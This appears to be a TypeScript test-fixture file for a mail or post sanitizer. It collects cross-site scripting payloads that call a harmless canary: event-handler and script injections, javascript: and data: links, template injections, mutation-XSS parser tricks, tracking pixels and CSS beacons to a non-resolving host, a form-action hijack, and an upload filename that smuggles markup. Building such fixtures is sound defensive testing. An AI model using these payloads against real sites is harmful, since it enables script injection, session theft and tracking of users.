/** Nobody of ours is there: whatever asks for it was made to by what somebody wrote. */
export const FOREIGN = 'https://foreign.invalid';
/** Only what somebody wrote calls it. */
export const CANARY = 'canary';

const run = `${CANARY}(document.domain)`;

/** A name or a line of text that is markup, a template, and the end of every attribute and script that it may stand in. */
export const hostile = (what: string): string =>
  `${what} "'><img src=${FOREIGN}/n onerror=${run}><svg/onload=${run}></script><script>${run}</script>`;

/** The same where only few letters fit. */
export const hostileShort = (what: string): string => `${what} <img src=x onerror=${run}>`;

/** What stands in a post as text: links that are none, and markup. */
export const hostileText = [
  hostile('Hostile post'),
  `javascript:${run}`,
  `https://a.example/"onmouseover="${run}`,
  `[click](javascript:${run}) <https://b.example/'onclick='${run}>`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
].join('\n');

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const image = `<img src=x onerror=${run}>`;

/** Mails whose HTML wants to run, load, post or lead somewhere. Each is a mail of its own: some swallow what follows. */
export const hostileMails: readonly string[] = [
  // What runs by itself.
  `<script>${run}</script><scr<script>ipt>${run}</scr</script>ipt><script src="${FOREIGN}/s.js"></script>
   <img src=x onerror="${run}"><img/src=x/onerror=${run}><img src="x" onerror
   ="${run}"><video><source onerror=${run}></video><audio src=x onerror=${run}></audio>
   <input autofocus onfocus=${run}><details open ontoggle=${run}>x</details><marquee onstart=${run}>x</marquee>
   <p style="animation:x 1s" onanimationstart=${run}>x</p><body onload=${run} onpageshow=${run}>`,
  // Other languages within HTML.
  `<svg onload=${run}><script>${run}</script><animate onbegin=${run} attributeName=x dur=1s></svg>
   <svg><a xlink:href="javascript:${run}"><text y=20>x</text></a><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}#x"/></svg>
   <svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>
   <math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  // Links.
  `<a href="javascript:${run}">a</a><a href="java&#9;script:${run}">b</a><a href="&#106;&#97;vascript&colon;${run}">c</a>
   <a href=" \u0001javascript:${run}">d</a><a href="vbscript:${run}">e</a><a href="data:text/html;base64,${base64(`<script>${run}</script>`)}">f</a>
   <a href="blob:x">g</a><a href="//foreign.invalid" onclick="${run}">h</a><a href="/settings" target="_top">i</a>`,
  // Frames, forms and what changes the page around it.
  `<iframe src="javascript:parent.${run}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>
   <object data="data:text/html,<script>${run}</script>"></object><embed src="javascript:${run}">
   <form action="${FOREIGN}/f"><input name=password><button formaction="javascript:${run}">Sign in</button></form>
   <meta http-equiv="refresh" content="0;url=${FOREIGN}/r"><base href="${FOREIGN}/"><link rel="stylesheet" href="${FOREIGN}/c.css">
   <link rel="preload" as="image" href="${FOREIGN}/p"><portal src="${FOREIGN}"></portal>`,
  // Trackers: pictures and styles that call home.
  `<img src="${FOREIGN}/pixel.gif" width=1 height=1><img srcset="${FOREIGN}/2x 2x" src="//foreign.invalid/1x"><picture><source srcset="${FOREIGN}/w"><img src="${FOREIGN}/v"></picture>
   <style>@import url(${FOREIGN}/i.css);body{background:url(${FOREIGN}/b)}</style><p style="background:url('${FOREIGN}/s')">x</p>
   <p style="list-style:url(${FOREIGN}/l)">x</p><p style="color:\\75rl(${FOREIGN}/e)">x</p><table background="${FOREIGN}/t"><tr><td>x</td></tr></table>
   <video poster="${FOREIGN}/poster"></video><input type=image src="${FOREIGN}/in"><img src="cid:nothing"><img src="/api/v1/auth/logout">`,
  // What becomes something else when it is read a second time.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${run}">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
  `<svg></p><style><a id="</style>${image}"></a></style></svg><svg><title><![CDATA[</title>${image}]]></svg>`,
  `<noscript><p title="</noscript>${image}"></noscript><noembed>${image}</noembed><xmp>${image}</xmp>`,
  `<select><template><style><!--</style><a rel="--></style></template>${image}"></a></select>`,
  `<textarea></textarea>${image}<!--><script>${run}</script>--><!--!>${image}--!>${image}<? ${image} ?><title></title>${image}`,
  `<p title="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;">&lt;script&gt;${run}&lt;/script&gt; &amp;lt;img src=x onerror=${run}&amp;gt;</p><plaintext>${image}`,
];

export interface HostileFile {
  readonly name: string;
  readonly type: string;
  readonly content: string;
}
/** Files that a browser would show, and run, if it were told to. */
export const hostileFiles: readonly HostileFile[] = [
  { name: `a"'><img src=x onerror=${run}>.html`, type: 'text/html', content: `<script>${run}</script>` },
  {
    name: 'picture.svg',
    type: 'image/svg+xml',
    content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`,
  },
];
